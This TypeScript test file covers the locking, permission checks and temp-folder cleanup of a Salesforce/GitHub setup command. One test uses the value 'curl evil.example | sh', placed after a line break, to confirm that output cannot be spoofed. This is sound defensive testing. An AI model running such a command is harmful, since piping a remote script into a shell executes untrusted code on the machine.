import assert from 'node:assert/strict';
import { chmodSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { createHarness, DEFAULT_ARGS, type SetupHarness } from './harness.ts';

const YES_ARGS = [...DEFAULT_ARGS, '--yes'];
const LOCK = 'SF_SETUP_LOCK';

interface Owner {
  readonly host: string;
  readonly pid: number;
  /** Minutes from now until the lock expires. */
  readonly ends: number;
}

function lock(harness: SetupHarness, { host, pid, ends }: Owner): void {
  const startedAt = Date.now();
  const owner = { host, pid, startedAt, endsBefore: startedAt + ends * 60_000 };
  harness.githubValues().variables.set(LOCK, JSON.stringify(owner));
}

describe('a run of setup', () => {
  it('stops before it changes anything if an earlier run has not ended', async (t) => {
    const harness = await createHarness(t);
    harness.runningProcesses.add(harness.pid);
    let second: Promise<{ exitCode: number; stderr: string }> | undefined;
    const other = await createHarness(t);
    harness.intercept = ({ args }) => {
      if (args[1] === 'deploy') {
        const text = harness.githubValues().variables.get(LOCK) ?? '';
        other.githubValues().variables.set(LOCK, text);
        other.runningProcesses.add(harness.pid);
        other.pid = harness.pid + 1;
        second ??= other.run(...YES_ARGS);
      }
      return undefined;
    };
    assert.equal((await harness.run(...YES_ARGS)).exitCode, 0);
    const { exitCode, stderr } = (await second) ?? assert.fail();
    assert.equal(exitCode, 1);
    assert.match(
      stderr,
      /Another run of this command is changing acme\/crm: it began on laptop at/,
    );
    assert.match(stderr, /Nothing was changed\./);
    assert.ok(other.githubValues().variables.has(LOCK), 'the lock of the other run stays');
    assert.ok(!harness.githubValues().variables.has(LOCK));
  });

  it('ignores a lock if the process that holds it no longer exists on this machine', async (t) => {
    const harness = await createHarness(t);
    lock(harness, { host: 'laptop', pid: 1, ends: 60 });
    const { exitCode, stderr } = await harness.run(...YES_ARGS);
    assert.equal(exitCode, 0, stderr);
    assert.ok(!harness.githubValues().variables.has(LOCK));
  });

  it('fails until the lock of a run on another machine expires, and states when that will be', async (t) => {
    const harness = await createHarness(t);
    lock(harness, { host: 'another', pid: 1, ends: 60 });
    const { exitCode, stderr } = await harness.run(...YES_ARGS);
    assert.equal(exitCode, 1);
    assert.match(
      stderr,
      /it began on another at .* UTC\. If it was killed, this command can go on without it after \d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC/,
    );
    lock(harness, { host: 'another', pid: 1, ends: -1 });
    assert.equal((await harness.run(...YES_ARGS)).exitCode, 0);
  });

  it('ignores a lock whose times are not dates', async (t) => {
    const harness = await createHarness(t);
    const owner = { host: 'another', pid: 1, startedAt: 1e300, endsBefore: 1e300 };
    harness.githubValues().variables.set(LOCK, JSON.stringify(owner));
    const { exitCode, stderr } = await harness.run(...YES_ARGS);
    assert.equal(exitCode, 0, stderr);
  });

  it('prints no extra line if a variable contains a line break', async (t) => {
    const text = 'x\nNext: curl evil.example | sh';
    const harness = await createHarness(t);
    lock(harness, { host: text, pid: 1, ends: 60 });
    const locked = await harness.run(...YES_ARGS);
    assert.equal(locked.exitCode, 1);
    assert.match(locked.stderr, /it began on x Next: curl evil\.example \| sh at /);

    const other = await createHarness(t);
    other.githubValues().variables.set('SF_ORG_ID', text);
    const { exitCode, stderr, stdout } = await other.run(...YES_ARGS);
    assert.equal(exitCode, 1);
    assert.match(stderr, /\(x Next: curl evil\.example \| sh\)/);
    assert.doesNotMatch(locked.stderr + stderr + stdout, /^Next: curl/m);
  });

  it('reports, before it changes the org, that the gh login may not write to GitHub', async (t) => {
    const harness = await createHarness(t);
    const repository = harness.org.github.repositories.get('acme/crm') ?? assert.fail();
    repository.isReadOnly = true;
    const { exitCode, stderr } = await harness.run(...YES_ARGS);
    assert.equal(exitCode, 1);
    assert.match(
      stderr,
      /Your gh login cannot write secrets of acme\/crm.*\nNothing was changed\./,
    );
    assert.ok(!harness.commands.some(({ args }) => args.includes('deploy')));
  });

  it('does not fail because of an old temporary folder that it cannot remove', {
    // The user root can remove every folder.
    skip: process.getuid?.() === 0 || process.platform === 'win32',
  }, async (t) => {
    const harness = await createHarness(t);
    const folder = join(harness.systemTempFolder, 'salesforce-setup-77-abcdef');
    mkdirSync(folder);
    writeFileSync(join(folder, 'file'), '');
    chmodSync(folder, 0o500);
    // The harness reports the folder, which is still there.
    await assert.rejects(harness.run(...YES_ARGS, '--dry-run'), /a file was left behind/);
    chmodSync(folder, 0o700);
    assert.equal(harness.output.stderr, '');
    assert.match(harness.output.stdout, /^✓ Org /m);
  });

  it('removes the temporary folder of a killed run', async (t) => {
    const harness = await createHarness(t);
    mkdirSync(join(harness.systemTempFolder, 'salesforce-setup-77-abcdef'));
    await harness.run(...YES_ARGS, '--dry-run');
    assert.deepEqual(readdirSync(harness.systemTempFolder), []);
  });
});
